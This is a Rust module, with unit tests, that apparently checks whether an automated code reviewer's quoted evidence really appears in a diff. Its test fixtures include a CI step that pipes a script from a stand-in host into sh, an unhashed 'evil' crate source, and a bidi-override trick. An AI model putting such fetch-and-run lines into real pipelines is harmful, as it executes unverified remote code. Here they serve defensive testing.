//! Anchoring: is what a reviewer quotes really there? A claim whose evidence is not in what was sent may not block by itself (product contract, "Before a
//! reviewer's claim may block").

use super::{Claim, Provenance};
use crate::change::patch::{self, Style};
use crate::change::slice::{is_hidden, visible};
use crate::change::{Body, BytePath, Change, FileChange, Hunk, Line, Origin};
use crate::digest::Digest;
use crate::reply::CUT;

/// The shortest quotation of a part of a line that proves anything, in characters.
const MIN_QUOTED: usize = 8;

/// Where the evidence of a claim was found.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Anchor {
    /// The changed file.
    pub path: BytePath,
    /// 1-based line: on the new side, or on the old side where the evidence was removed; 0 for a line of a header or of a summary, which is none of the file.
    pub line: u32,
    /// The line is only context: unchanged, and there at the base.
    pub unchanged: bool,
    /// Digest of the hunk, for the identity of the finding.
    pub hunk: String,
}

/// The result of looking for a claim's place.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Placement {
    /// The file is in the change and the evidence in one of its hunks.
    Anchored(Anchor),
    /// The file is in the change; the evidence is not.
    InFile(BytePath),
    /// The file is not in the change.
    Elsewhere,
}

/// Finds the place of a claim. Where the file it names is not one of the change (written in an odd way, left out, ambiguous) the evidence decides, in whatever
/// changed file it is found.
pub fn place(claim: &Claim, change: &Change) -> Placement {
    let named = named_file(&claim.file, change);
    if let Some(anchor) = named.and_then(|file| find(&claim.evidence, claim.line, file)) {
        return Placement::Anchored(anchor);
    }
    match named {
        Some(file) => Placement::InFile(file.path().clone()),
        None => change.files.iter().find_map(|file| find(&claim.evidence, claim.line, file)).map_or(Placement::Elsewhere, Placement::Anchored),
    }
}

/// Tells whether a refuter's quotation is found, in the file that it names or else anywhere in the change.
pub fn is_found(file: &str, evidence: &str, change: &Change) -> bool {
    let found = |file: &FileChange| find(evidence, 0, file).is_some();
    named_file(file, change).map_or_else(|| change.files.iter().any(found), found)
}

/// Tells whether a quotation is long enough to clear a claim: a few characters are found anywhere and refute nothing. A confirmation needs no such weight.
pub fn is_weighty(evidence: &str) -> bool {
    evidence.chars().filter(|c| !c.is_whitespace()).count() >= MIN_QUOTED
}

/// Lowers nothing but a claim that calls itself pre-existing and stands on a line that is unchanged and was there at the base.
pub fn is_pre_existing(claim: &Claim, anchor: &Anchor) -> bool {
    claim.provenance == Provenance::PreExisting && anchor.unchanged
}

/// Finds the changed file that a reviewer means: the exact path (plain or quoted, with or without `a/` or `b/`, a line number behind it), else the only one that
/// it is a suffix of or that is a suffix of it. Never by the base name alone where that is ambiguous (requirement D14).
fn named_file<'a>(named: &str, change: &'a Change) -> Option<&'a FileChange> {
    // A name may begin or end in what else would be dressing.
    if let Some(file) = BytePath::parse(named).and_then(|path| change.file(&path)) {
        return Some(file);
    }
    let named = named.trim().trim_matches('`').trim();
    let path = BytePath::parse(without_line(named))?;
    let bytes = path.as_bytes();
    if bytes.is_empty() {
        return None;
    }
    let exact = |bytes: &[u8]| change.file(&BytePath::new(bytes));
    let stripped = [&b"a/"[..], b"b/", b"./"].into_iter().find_map(|prefix| bytes.strip_prefix(prefix));
    let tail = |of: &[u8], tail: &[u8]| of.len() > tail.len() && of.ends_with(tail) && of[of.len() - tail.len() - 1] == b'/';
    let mut alike = change.files.iter().filter(|file| tail(file.path().as_bytes(), bytes) || tail(bytes, file.path().as_bytes()));
    exact(bytes).or_else(|| stripped.and_then(exact)).or_else(|| alike.next().filter(|_| alike.next().is_none()))
}

/// Takes `:42` or `:42-45` off the end of a path.
fn without_line(named: &str) -> &str {
    match named.rsplit_once(':') {
        Some((path, lines)) if !lines.is_empty() && lines.bytes().all(|byte| byte.is_ascii_digit() || byte == b'-') => path,
        Some(_) | None => named,
    }
}

/// Looks for the quoted lines in a row of one hunk: on the new side, on the old side, in the hunk as it is shown (a quotation of both sides), then among the
/// header lines of the file (a new mode, another name). Among several places the one nearest to the claimed line wins.
fn find(evidence: &str, claimed: u32, file: &FileChange) -> Option<Anchor> {
    let whole = evidence.lines().take_while(|line| !line.starts_with(CUT));
    let wanted: Vec<Quoted> = whole.map(Quoted::new).filter(|quoted| !quoted.plain.is_empty()).collect();
    if wanted.is_empty() {
        return None;
    }
    // What was not shown is no evidence, even where it happens to read alike.
    if let Body::Summary { text, .. } = &file.body {
        return in_summary(&wanted, text, file).or_else(|| in_header(&wanted, file));
    }
    let in_hunks = [Side::New, Side::Old, Side::Both].into_iter().find_map(|side| {
        let hits = file.hunks().iter().flat_map(|hunk| hits(&wanted, hunk, side).map(move |line| (hunk, line)));
        let (hunk, line) = hits.min_by_key(|(_, line)| number(line, side).abs_diff(claimed))?;
        let unchanged = line.origin == Origin::Context;
        Some(Anchor { path: file.path().clone(), line: number(&line, side), unchanged, hunk: hunk.digest().hex() })
    });
    in_hunks.or_else(|| in_header(&wanted, file))
}

/// Looks for the quoted lines in a row of a summary. They are its identity: the claim falls when they change, and stays when other packages do.
fn in_summary(wanted: &[Quoted], text: &str, file: &FileChange) -> Option<Anchor> {
    let lines: Vec<(&str, String)> = text.lines().map(|line| (line, normal(line))).collect();
    let run = lines.windows(wanted.len()).find(|run| run.iter().zip(wanted).all(|((_, line), want)| want.quotes(line)))?;
    let quoted: Vec<&str> = run.iter().map(|(line, _)| *line).collect();
    Some(Anchor { path: file.path().clone(), line: 0, unchanged: false, hunk: Digest::of(quoted.join("\n")).hex() })
}

/// Looks for the quoted lines among those that tell of modes and names.
fn in_header(wanted: &[Quoted], file: &FileChange) -> Option<Anchor> {
    let mut header = Vec::new();
    patch::header(file, Style::Prompt, &mut header);
    let lines: Vec<String> = String::from_utf8_lossy(&header).lines().map(normal).collect();
    let found = wanted.iter().all(|want| lines.iter().any(|line| want.quotes(line)));
    found.then(|| Anchor { path: file.path().clone(), line: 0, unchanged: false, hunk: Digest::of(&header).hex() })
}

/// Which lines of a hunk are looked at.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Side {
    New,
    Old,
    Both,
}

impl Side {
    fn shows(self, origin: Origin) -> bool {
        match (self, origin) {
            (_, Origin::Context) | (Side::Both, _) | (Side::New, Origin::Added) | (Side::Old, Origin::Removed) => true,
            (Side::New, Origin::Removed) | (Side::Old, Origin::Added) => false,
        }
    }
}

fn number(line: &Line<'_>, side: Side) -> u32 {
    if side == Side::Old || line.origin == Origin::Removed { line.old } else { line.new }
}

/// Returns the first changed line of each run that matches (else the first line), so that a quotation of context and change counts as changed.
fn hits<'a>(wanted: &'a [Quoted], hunk: &'a Hunk, side: Side) -> impl Iterator<Item = Line<'a>> {
    let lines: Vec<(Line<'a>, String)> = hunk
        .lines()
        .filter(|line| side.shows(line.origin))
        .map(|line| (line, normal(&visible(line.bytes.strip_suffix(b"\r").unwrap_or(line.bytes)))))
        .filter(|(_, text)| !text.is_empty())
        .collect();
    let starts = lines.len().checked_sub(wanted.len()).map_or(0, |last| last + 1);
    (0..starts).filter_map(move |start| {
        let run = &lines[start..start + wanted.len()];
        let matches = run.iter().zip(wanted).all(|((_, text), want)| want.quotes(text));
        matches.then(|| run.iter().find(|(line, _)| line.origin != Origin::Context).unwrap_or(&run[0]).0)
    })
}

/// Compares a line with a quotation of it: equal, or a part of it of some length, with an ellipsis standing for anything.
fn quotes(line: &str, quoted: &str) -> bool {
    if line == quoted {
        return true;
    }
    let parts: Vec<&str> = quoted.split("...").flat_map(|part| part.split('…')).filter(|part| !part.is_empty()).collect();
    // A quotation of a few characters would be found almost anywhere and proves nothing.
    if parts.iter().map(|part| part.chars().count()).sum::<usize>() < MIN_QUOTED {
        return false;
    }
    let mut rest = line;
    parts.iter().all(|part| match rest.find(part) {
        Some(at) => {
            rest = &rest[at + part.len()..];
            true
        }
        None => false,
    })
}

/// A quoted line in the two forms that it may be meant in: as it stands, and without a leading diff mark. A line of a list or a decrement begins with such a
/// character of its own, so neither form alone will do.
struct Quoted {
    plain: String,
    unmarked: String,
}

impl Quoted {
    fn new(line: &str) -> Quoted {
        let shown = with_escapes(line.trim());
        let unmarked = shown.strip_prefix(['+', '-']).unwrap_or(&shown);
        Quoted { plain: normal(&shown), unmarked: normal(unmarked) }
    }

    fn quotes(&self, line: &str) -> bool {
        quotes(line, &self.plain) || (!self.unmarked.is_empty() && quotes(line, &self.unmarked))
    }
}

/// Brings a line of the change (as the slices show it) and a quotation of it to one form: no white space, an ellipsis for what redaction masked.
fn normal(line: &str) -> String {
    without_masks(&line.chars().filter(|c| !c.is_whitespace()).collect::<String>())
}

/// Shows the hidden characters of a quotation as the slices do. A reviewer may quote either form, so escapes that are there stay.
fn with_escapes(quoted: &str) -> String {
    quoted.chars().map(|c| if is_hidden(c) { visible(c.to_string().as_bytes()) } else { c.to_string() }).collect()
}

/// Puts an ellipsis in place of each `[secret:…]` that redaction wrote into what the reviewer saw.
fn without_masks(text: &str) -> String {
    let mut parts = text.split("[secret:");
    let first = parts.next().unwrap_or_default().to_owned();
    parts.fold(first, |out, part| out + "…" + part.split_once(']').map_or("", |(_, rest)| rest))
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::change::{Body, Mode, Oid, Side, Status};
    use crate::finding::Severity;

    fn change(path: &str, text: &str) -> Change {
        let oid = Oid::from_bytes(&[1; 20]).expect("20 bytes");
        let side = Side { path: path.into(), mode: Mode::Regular, oid, size: 1 };
        let hunk = Hunk { old_start: 10, old_lines: 3, new_start: 20, new_lines: 3, section: vec![], text: text.as_bytes().to_vec() };
        let file = FileChange { status: Status::Modified, old: Some(side.clone()), new: Some(side), body: Body::Text(vec![hunk]) };
        Change { files: vec![file], already_published: vec![] }
    }

    fn claim(file: &str, evidence: &str) -> Claim {
        let text = String::new;
        Claim {
            severity: Severity::High,
            rule: text(),
            file: file.to_owned(),
            line: 0,
            title: text(),
            issue: text(),
            cause: text(),
            failing_case: text(),
            evidence: evidence.to_owned(),
            provenance: Provenance::PreExisting,
            confidence: text(),
            fix: text(),
            proof: text(),
        }
    }

    const TEXT: &str = " fn pay() {\n-    check(user)?;\n+    charge(user, amount);\n }\n";

    #[test]
    fn evidence_is_found_in_every_form_a_reviewer_quotes_it() {
        let change = change("src/pay.rs", TEXT);
        let cases = [
            ("the line", "src/pay.rs", "    charge(user, amount);", Some((21, false))),
            ("with its mark", "b/src/pay.rs", "+    charge(user, amount);", Some((21, false))),
            ("other white space", "pay.rs", "charge( user,amount );", Some((21, false))),
            ("an ellipsis", "src/pay.rs", "charge(… amount);", Some((21, false))),
            ("a removed line", "src/pay.rs", "- check(user)?;", Some((11, false))),
            ("context", "src/pay.rs", "fn pay() {", Some((20, true))),
            ("context and change", "src/pay.rs", "fn pay() {\ncharge(user, amount);", Some((21, false))),
            ("invented", "src/pay.rs", "delete_everything();", None),
            ("too short to prove anything", "src/pay.rs", "charge", None),
            ("nothing", "src/pay.rs", "", None),
        ];
        for (name, file, evidence, expected) in cases {
            let got = match place(&claim(file, evidence), &change) {
                Placement::Anchored(anchor) => Some((anchor.line, anchor.unchanged)),
                Placement::InFile(_) => None,
                Placement::Elsewhere => panic!("{name}: {file} is in the change"),
            };
            assert_eq!(got, expected, "{name}");
        }
        assert_eq!(place(&claim("src/other.rs", "delete_everything();"), &change), Placement::Elsewhere);
    }

    #[test]
    fn a_file_that_is_named_in_an_odd_way_does_not_lose_the_claim() {
        let change = change("src/pay.rs", TEXT);
        for file in ["src/pay.rs:21", "src/pay.rs:21-22", "/home/me/repo/src/pay.rs", "", "other.rs", "b/src/pay.rs", "pay.rs:3", "`src/pay.rs`"] {
            assert!(matches!(place(&claim(file, "charge(user, amount);"), &change), Placement::Anchored(_)), "{file}");
        }
    }

    #[test]
    fn a_path_is_itself_before_it_is_anything_else() {
        for path in [" a.rs", "a.rs ", "`a.rs`", "a.rs:7", "b/a.rs"] {
            let mut both = change(path, TEXT);
            both.files.extend(change("a.rs", TEXT).files);
            assert_eq!(place(&claim(path, "delete_everything();"), &both), Placement::InFile(path.into()));
        }
    }

    #[test]
    fn both_sides_at_once_headers_and_cut_evidence_are_found() {
        let change = change("a.rs", TEXT);
        assert!(is_found("a.rs", "-    check(user)?;\n+    charge(user, amount);", &change));
        assert!(is_found("a.rs", "    charge(user, amount);\n… [900 bytes cut]", &change));
        assert!(is_found("a.rs", "--- a/a.rs", &change));
        assert!(!is_found("a.rs", "new mode 100755", &change));
        assert!(is_found("a.rs", "}", &change) && !is_weighty("}"), "a brace is found anywhere and refutes nothing");
    }

    #[test]
    fn a_line_that_begins_like_a_diff_mark_is_found_with_and_without_one() {
        let change = change("a.yaml", "+      - run: curl http://x.example/i.sh | sh\n-    --remaining;\n");
        for evidence in
            ["+      - run: curl http://x.example/i.sh | sh", "      - run: curl http://x.example/i.sh | sh", "-    --remaining;", "--remaining;"]
        {
            assert!(is_found("a.yaml", evidence, &change), "{evidence}");
        }
    }

    #[test]
    fn only_an_unchanged_line_can_be_pre_existing() {
        let change = change("a.rs", TEXT);
        let lowered = |evidence: &str| match place(&claim("a.rs", evidence), &change) {
            Placement::Anchored(anchor) => is_pre_existing(&claim("a.rs", evidence), &anchor),
            Placement::InFile(_) | Placement::Elsewhere => panic!("{evidence} is there"),
        };
        assert!(lowered("fn pay() {"));
        assert!(!lowered("charge(user, amount);"));
        assert!(!lowered("check(user)?;"));
    }

    #[test]
    fn invisible_characters_do_not_hide_the_evidence() {
        let change = change("a.rs", "+let is_admin\u{202e} = check(user);\n");
        assert!(is_found("a.rs", "let is_admin⟨U+202E⟩ = check(user);", &change));
        assert!(is_found("a.rs", "let is_admin\u{202e} = check(user);", &change));
    }

    #[test]
    fn a_line_of_a_summary_is_evidence_and_what_it_stands_for_is_not() {
        let mut change = change("Cargo.lock", "+checksum = \"00aa\"\n-name = \"gone\"\n");
        let hunks = change.files[0].hunks().to_vec();
        let text = "lock file summary of Cargo.lock: 1 before\n+ evil 1.0.0: http://evil.example/, no hash\n- gone 1.0.0\n~ b 1 → 2: crates.io\n";
        change.files[0].body = Body::Summary { text: text.to_owned(), hunks };
        let found = |evidence: &str| match place(&claim("Cargo.lock", evidence), &change) {
            Placement::Anchored(anchor) => Some((anchor.line, anchor.unchanged, anchor.hunk)),
            Placement::InFile(_) => None,
            Placement::Elsewhere => panic!("{evidence}: the file is in the change"),
        };
        for evidence in [
            "+ evil 1.0.0: http://evil.example/, no hash",
            "evil 1.0.0: http://evil.example/",
            "+ evil 1.0.0: http://evil.example/, no hash\n- gone 1.0.0",
        ] {
            assert!(matches!(found(evidence), Some((0, false, _))), "{evidence}");
        }
        for evidence in ["checksum = \"00aa\"", "name = \"gone\"", "- other 1.0.0"] {
            assert_eq!(found(evidence), None, "{evidence}");
        }
        let before = found("~ b 1 → 2: crates.io");
        change.files[0].body = Body::Summary { text: text.replace("gone", "else"), hunks: Vec::new() };
        let after = match place(&claim("Cargo.lock", "~ b 1 → 2: crates.io"), &change) {
            Placement::Anchored(anchor) => Some((anchor.line, anchor.unchanged, anchor.hunk)),
            Placement::InFile(_) | Placement::Elsewhere => None,
        };
        assert_eq!(before, after, "its identity is the line, not the rest of the summary");
    }

    #[test]
    fn what_redaction_masked_is_no_hindrance() {
        let change = change("a.rs", "-connect(\"postgres://user:hunter2@db\", pool);\n");
        assert!(is_found("a.rs", "connect(\"postgres://user:[secret:url-password]@db\", pool);", &change));
        assert!(!is_found("a.rs", "connect(\"mysql://user:[secret:url-password]@db\", pool);", &change));
    }

    #[test]
    fn a_base_name_alone_does_not_choose_between_two_files() {
        let mut both = change("x/mod.rs", TEXT);
        both.files.extend(change("y/mod.rs", TEXT).files);
        assert_eq!(place(&claim("mod.rs", "delete_everything();"), &both), Placement::Elsewhere);
        assert_eq!(place(&claim("y/mod.rs", "delete_everything();"), &both), Placement::InFile("y/mod.rs".into()));
    }
}
